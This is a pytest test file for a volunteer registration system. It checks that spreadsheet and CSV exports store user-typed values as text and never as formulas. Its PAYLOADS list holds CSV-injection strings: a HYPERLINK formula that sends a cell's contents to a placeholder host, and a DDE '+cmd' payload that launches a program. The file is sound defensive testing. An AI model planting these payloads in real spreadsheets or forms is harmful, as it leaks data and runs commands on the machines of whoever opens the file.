"""No cell dvc writes runs as a formula in Excel, and the stored value stays as it was typed (OWASP CSV injection).

The payloads of the adversarial pass, put in through the desk's own registration and the council's name, come
back in the insurer's .xlsx and CSV, the import's bad-rows file and the daily report as text.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, strategies as st
from openpyxl import load_workbook
from sqlmodel import select

from dvc.cli import main
from dvc.domain.timeutil import fiscal_year, local_day
from dvc.domain.volunteer_input import VolunteerInput
from dvc.services.core import table_writer
from dvc.services.core.setup import create_database
from dvc.services.core.table_file import read_table
from dvc.services.head_office.insurer_list import on_site_enrolments, write_insurer_list
from dvc.services.head_office.report_export import write_report
from dvc.services.head_office.report_figures import build_report
from dvc.services.reception.registration import register_individual
from dvc.services.reception.volunteer_import import import_volunteers, write_error_csv
from dvc.store.tables import Volunteer

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A2,"クリック")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+2",
    "-2+3",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "+81-90-1234-5678",
]
FORMULA_START = re.compile(r"^[ \u3000]*[=+\-@\t\r\n\0＝＋－＠]")


def _register(ws, n: int, payload: str) -> None:
    register_individual(ws, data=VolunteerInput(
        name=f"{payload}", kana="てすと", birth_date="1980/5/5", phone=f"090-1111-{n:04d}", address=payload,
        insurance_fiscal_year=fiscal_year(local_day()), insured_on_site=True, insurance_consent=True))


@pytest.fixture
def listed(workspace):
    for n, payload in enumerate(PAYLOADS):
        _register(workspace, n, payload)
    with workspace.session() as s:
        stored = {(v.name, v.address) for v in s.exec(select(Volunteer)).all()}
    assert any(name.startswith("=") for name, _ in stored)  # the desk keeps what was typed
    return workspace, stored


def _formula_cells(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [m for n in sheets for m in re.findall(rb"<f>[^<]*</f>", book.read(n))]


def test_the_insurers_xlsx_holds_the_names_as_text(listed, tmp_path):
    ws, stored = listed
    path = write_insurer_list(on_site_enrolments(ws), tmp_path / "insurer.xlsx", passphrase=None)
    assert _formula_cells(path.read_bytes()) == []
    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows(min_row=2))
    assert {(r[1].value, r[7].value) for r in rows} == stored  # exactly as stored, not a character added
    for row in rows:
        for cell in row:
            if isinstance(cell.value, str) and FORMULA_START.match(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix  # text, still text after an edit in Excel


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_insurers_csv_starts_no_cell_with_a_formula(listed, tmp_path):
    ws, stored = listed
    path = write_insurer_list(on_site_enrolments(ws), tmp_path / "insurer.csv", passphrase=None)
    rows = _csv_rows(path.read_bytes())[1:]
    for row in rows:
        for cell in row:
            assert not FORMULA_START.match(cell) or table_writer.PLAIN_NUMBER.fullmatch(cell), cell
    assert {(table_writer.from_csv_cell(r[1]), table_writer.from_csv_cell(r[7])) for r in rows} == stored


def test_the_bad_rows_file_is_safe_and_imports_back_as_it_was(workspace, tmp_path):
    lines = ["氏名,ふりがな,生年月日,電話番号,住所"]
    lines += [f"{p.strip() or 'x'},てすと,not a date,090-2222-{n:04d},{p}" for n, p in enumerate(
        ["=1+1", "@SUM(A1:A2)", "+cmd|' /C calc'!A0", "-2+3"])]
    source = tmp_path / "pre.csv"
    source.write_text("\n".join(lines), encoding="utf-8")
    report = import_volunteers(workspace, path=source, dry_run=True)
    assert len(report.bad) == 4
    errors = write_error_csv(report, tmp_path / "errors.csv", passphrase=None)
    for row in _csv_rows(errors.read_bytes())[1:]:
        assert not any(FORMULA_START.match(cell) for cell in row[3:]), row
    # Read back, the cells are what the file had: fixing the dates there and importing it works as before.
    table = read_table(errors)
    assert [row[3 + 4] for _line, row in table.rows] == ["=1+1", "@SUM(A1:A2)", "+cmd|' /C calc'!A0", "-2+3"]


def test_the_daily_report_shows_a_councils_own_name_as_text(tmp_path):
    ws = create_database(tmp_path / "c.db", council="testcity", short="TC", name="=1+1 市社協")
    try:
        report = build_report(ws, start=local_day(), end=local_day())
    finally:
        ws.close()
    xlsx = write_report(report, tmp_path / "nippo.xlsx")
    assert _formula_cells(xlsx.read_bytes()) == []
    assert load_workbook(xlsx)["日報"]["A2"].value == "=1+1 市社協"
    assert main(["--db", str(tmp_path / "c.db"), "report", "daily", "--out", str(tmp_path / "nippo.csv")]) == 0


def test_every_spreadsheet_writer_goes_through_the_shared_one():
    """A new CSV or .xlsx export must not write cells its own way (that is how the insurer's list slipped)."""
    root = Path(__file__).resolve().parents[2] / "dvc"
    offenders = []
    for source in root.rglob("*.py"):
        text = source.read_text(encoding="utf-8")
        if source.name == "table_writer.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", text) or re.search(r"\.append\(\s*(list\()?[A-Za-z_]*row", text) \
                and "openpyxl" in text or re.search(r"\.cell\([^()]*,[^()]*,[^()]*\)", text):
            offenders.append(str(source.relative_to(root)))
    assert offenders == []


@given(st.text())
def test_any_text_comes_back_from_csv_as_it_was_and_never_leads_with_a_formula(text):
    written = table_writer.csv_cell(text)
    assert table_writer.from_csv_cell(written) == text or text.startswith("'")
    assert not table_writer.runs_as_formula(written)
